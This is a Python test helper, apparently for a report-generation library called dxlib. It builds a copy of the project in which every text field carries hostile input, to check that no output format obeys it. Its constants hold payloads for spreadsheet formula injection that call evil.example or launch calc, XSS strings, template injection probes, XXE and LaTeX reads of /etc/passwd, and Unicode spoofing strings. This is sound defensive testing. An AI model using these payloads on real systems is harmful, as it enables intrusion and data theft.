"""A checkout whose every text is hostile: what a format obeyed would set ``window.hit`` or ask evil.example."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Callable, Iterator
from functools import cache
from itertools import count
from pathlib import Path
from typing import Any

import yaml

from dxlib.errors import DxError
from dxlib.notation.figures import read_figure

ROOT = Path(__file__).parents[1]
PRODUCT = (1337, 7331)  # what a template would multiply
RESULT = str(PRODUCT[0] * PRODUCT[1])
TIMES = "{}*{}".format(*PRODUCT)
DIRECTION = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = "\u00ad\u200b\u200c\u200d\u2060\ufeff"
LONG = "Ư" * 400
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x","x")', "+cmd|' /C calc'!A", "-cmd|' /C calc'!A", "@SUM(A:A)", "\t=A:A",
    '＝HYPERLINK("http://evil.example","x")', "＋A:A", "－A:A", "＠SUM(A:A)", '=IMPORTXML("http://evil.example","//a")',
)  # fmt: skip
BEGINNINGS = (*FORMULAS, f"\u202e{DIRECTION}\u202e", f"A{UNSEEN}", "# ", "- ", "> ", "| ", "```", "---\n", "''", "")
PIECES = (
    "<script>window.hit=true</script>", '"><img src=x onerror="window.hit=true">',
    "</title></style></textarea></svg><svg onload='window.hit=true'>", '<a href="javascript:window.hit=true">x</a>',
    "[x](javascript:window.hit=true) ![y](http://evil.example/y.png) <http://evil.example>",
    "<iframe srcdoc='<script>parent.hit=true</script>'></iframe><base href=//evil.example/><meta http-equiv=refresh>",
    f"{{{{{TIMES}}}}} {{% include '/etc/passwd' %}} {{{{ cycler.__init__ }}}}",
    f"${{{TIMES}}} #{{{TIMES}}} {{0.__class__}}",
    '#panic("x") #import "x.typ": * #read("/etc/passwd") #let x = none', f"#({TIMES}) $ sum #({TIMES}) $ `raw` #sys",
    ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; <![CDATA[', "</w:t></a:t></t></text><w:p/>&lt;b&gt;",
    r"\input{/etc/passwd} \write{ls} %s %(x)s \n \u0041", f"a{DIRECTION}b\u202e%14,85", f"раураl{UNSEEN}.соm",
    LONG, "javascript:window.hit=true", "data:text/html,<script>window.hit=true</script>", "ế̴̖̣́̈" * 12, "'\"`;--",
)  # fmt: skip
FREE = {
    "details": ("name_en", "name_vi"), "tasks": ("list", "task_en", "task_vi"), "targets": ("number",),
    "commitments": ("commitment_en", "commitment_vi", "owner", "status"),
}  # fmt: skip
_KEPT = ("doubtful:", "start of the count not printed", "period not printed", "read in:")  # what a note begins with
_FREE = {"name", "title", "definition", "why", "asks", "method", "use", "short", "text", "description", "issuer",
         "notes", "what", "symbol"}  # fmt: skip
_INNER = {"en", "vi", "one", "other"}  # what a text is in


class Evil:
    """Hostile words, another one each time, always in the same order."""

    def __init__(self) -> None:
        self._at = count()

    def begun(self, text: str) -> str:
        """Return a text with something hostile at its beginning and something else in it."""
        at = next(self._at)
        return f"{BEGINNINGS[at % len(BEGINNINGS)]}{text} {self.piece(at)}"

    def piece(self, at: int | None = None) -> str:
        at = next(self._at) if at is None else at
        return PIECES[at % len(PIECES)]

    def printed(self) -> str:
        """Return something that may stand behind a printed figure: most is refused there, as no figure has it."""
        return next(one for one in iter(self.piece, None) if _passes(f"45,78% {one}") and _passes(f"5 tỷ USD {one}"))


@cache
def _passes(printed: str) -> bool:
    try:
        return read_figure(printed).value in (45.78, 5e9)
    except DxError:
        return False


def checkout(place: Path) -> Path:
    """Return a copy of package, data and notebooks in which every text is hostile."""
    evil = Evil()
    leave = shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints")
    for name in ("dxlib", "data", "notebooks"):
        shutil.copytree(ROOT / name, place / name, ignore=leave)
    for file in sorted((place / "dxlib" / "indicators").glob("*.yml")):
        _yaml(file, evil)
    _yaml(place / "notebooks" / "suite.yml", evil)
    for file in sorted((place / "data").glob("*.yml")):
        _yaml(file, evil)
    _csv(place / "data" / "crosswalk.csv", ("note",), evil, printed=False)
    for folder in sorted((place / "data" / "reports").iterdir()):
        _yaml(folder / "report.yml", evil)
        for file in sorted(folder.glob("*.csv")):
            _csv(file, FREE.get(file.stem, ()), evil, printed=file.stem not in ("places", "uncounted"))
    return place


def _csv(file: Path, free: tuple[str, ...], evil: Evil, printed: bool) -> None:
    with file.open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    for row in rows:
        for name in free:
            if row[name]:
                row[name] = evil.begun(row[name])
        if row.get("note"):
            kept = row["note"].startswith(_KEPT)
            row["note"] = f"{row['note']} {evil.piece()}" if kept else evil.begun(row["note"])
        if printed and row.get("as_printed"):
            row["as_printed"] += f" {evil.printed()}"
    with file.open("w", encoding="utf-8", newline="") as opened:
        writer = csv.DictWriter(opened, rows[0] if rows else [], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def _yaml(file: Path, evil: Evil) -> None:
    content = yaml.safe_load(file.read_text(encoding="utf-8"))
    file.write_text(yaml.safe_dump(_worse(content, "", evil.begun), allow_unicode=True, sort_keys=False), "utf-8")


def _worse(part: Any, key: str, begun: Callable[[str], str]) -> Any:
    if isinstance(part, dict):
        return {name: _worse(value, key if name in _INNER else name, begun) for name, value in part.items()}
    if isinstance(part, list):
        return [_worse(value, key, begun) for value in part]
    return begun(part) if part and isinstance(part, str) and key in _FREE else part


def files(folder: Path) -> Iterator[Path]:
    """Yield the files under a folder."""
    return (file for file in sorted(folder.rglob("*")) if file.is_file())


# What a notebook shows of it: every kind of table, chart and text that has words of the data.
CELLS = (
    "import dxlib as dx\nevidence = dx.load(as_of, reports=reports)\n"
    "figures = dx.compare(period, baseline, area=area, evidence=evidence, pillar='cybersecurity')\n"
    "targets = dx.assess(period=period, area=area, evidence=evidence).head(12)\nfound = dx.audit(evidence=evidence)",
    "dx.text.message(figures, targets, language)",
    "dx.text.sentences(figures, language, limit=12)",
    "dx.charts.dumbbell(figures, targets, language=language)",
    "dx.charts.recomputed(found.head(20), language=language)",
    "dx.tables.comparison(figures, language=language)",
    "dx.tables.sources(figures.head(6), evidence, language=language)",
    "dx.tables.findings(found.head(12), language=language)",
    "dx.tables.closing(dx.analysis.closing(evidence=evidence).head(6), language=language)",
    "dx.tables.commitments(evidence.commitments.head(8), language=language)",
    "dx.tables.reports(evidence, language=language)",
    "dx.tables.indicators(dx.indicators('dossiers').head(8), language=language)",
    "evidence.reports[['id', 'title_en', 'issuer', 'notes']].head(4)",
    "print(evidence.reports['notes'].iloc[-1])",
)
# Run in the checkout: an edition in all formats, every export, every command, the explorer's files.
CARRIED = """
import contextlib, io, pathlib, sys
import dxlib as dx
from dxlib.briefing import brief
from dxlib.cli import cli
from dxlib.explorer.choice import Choice

assert pathlib.Path(dx.__file__).is_relative_to(pathlib.Path.cwd()), dx.__file__
out = pathlib.Path(sys.argv[1])
brief(language="en", formats="html,pdf,docx,pptx,xlsx", out=out / sys.argv[2], progress=False)
for form in ("sdmx", "csvw", "frictionless", "parquet", "duckdb", "json"):
    dx.export(form, out / "exports" / form, indicator="attacks")
(out / "terminal").mkdir()
editions = str(out / sys.argv[2])
for at, words in enumerate((["targets"], ["audit", "attacks", "--all"], ["revisions"], ["sources", "attacks"],
                            ["compare", "--format", "csv"], ["editions", "--out", editions])):
    told = io.StringIO()
    with contextlib.redirect_stdout(told):
        cli.main(words, standalone_mode=False)
    (out / "terminal" / f"{words[0]}-{at}.txt").write_text(told.getvalue(), encoding="utf-8")
"""


def notebook(folder: Path) -> None:
    """Make the suite of a checkout one notebook that shows all of it; its brief is short."""
    import nbformat

    file = folder / "notebooks" / "suite.yml"
    suite = yaml.safe_load(file.read_text(encoding="utf-8"))
    suite["notebooks"] = suite["notebooks"][:1]
    file.write_text(yaml.safe_dump(suite, allow_unicode=True, sort_keys=False), encoding="utf-8")
    whole = nbformat.read(folder / "notebooks" / "overview.ipynb", 4)
    parameters = next(cell for cell in whole.cells if "parameters" in cell.metadata.get("tags", ()))
    cells = [nbformat.v4.new_markdown_cell(f"# Title {PIECES[0]}\n\n{PIECES[6]}\n\n{PIECES[13]}"), parameters]
    for at, source in enumerate(CELLS):
        tags = {0: ["remove-output"], 1: ["brief"]}.get(at, [])
        cells.append(nbformat.v4.new_code_cell(source, metadata={"tags": tags}))
    made = nbformat.v4.new_notebook(cells=cells, metadata=whole.metadata)
    for at, cell in enumerate(made.cells):
        cell["id"] = f"cell-{at}"
    nbformat.write(made, folder / "notebooks" / "overview.ipynb")
